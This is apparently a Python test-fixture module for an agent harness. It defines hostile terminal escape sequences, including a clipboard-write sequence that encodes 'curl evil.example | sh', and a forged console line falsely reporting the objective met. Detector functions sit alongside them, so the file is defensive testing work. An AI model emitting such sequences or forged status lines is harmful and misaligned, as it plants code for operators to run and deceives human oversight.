"""What a hostile agent writes to take the operator's terminal or chat, and the checks
that none of it got there raw (tests/test_hostile_text.py, the fuzz tests)."""
from __future__ import annotations

import re

CLEAR = "\x1b[2J\x1b[H"                                         # clear the screen, home
TITLE = "\x1b]0;all good\x07"                                   # OSC 0: the window's title
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"    # OSC 52: write the clipboard
C1_CSI = "\x9b31m"                                              # the 8-bit CSI
REORDER = "\u202egnp.exe\u202c \u2066x\u2069"                   # bidi override, isolate
ESCAPES = f"{CLEAR}{TITLE}{CLIPBOARD}{C1_CSI}\r{REORDER}\x7f"   # all of it, on one line
# a line of ralph's console, as an agent would forge it after a newline
FORGED_LINE = "[12:00:00] EXECUTING_BATCH -> COMPLETE (objective_met: all done)"
HOSTILE = f"step done{ESCAPES}\n{FORGED_LINE}"

# what a terminal obeys: C0 (but tab and newline), DEL, C1, bidi controls, separators
_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f"
                  "\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def raw_controls(text: str) -> list[str]:
    """The characters of `text` a terminal (or a chat client) would act on."""
    return _RAW.findall(text)


def forged_lines(text: str) -> list[str]:
    """Lines of `text` that begin with the forged console line: passing for ralph's own."""
    return [line for line in text.split("\n") if line.startswith(FORGED_LINE)]
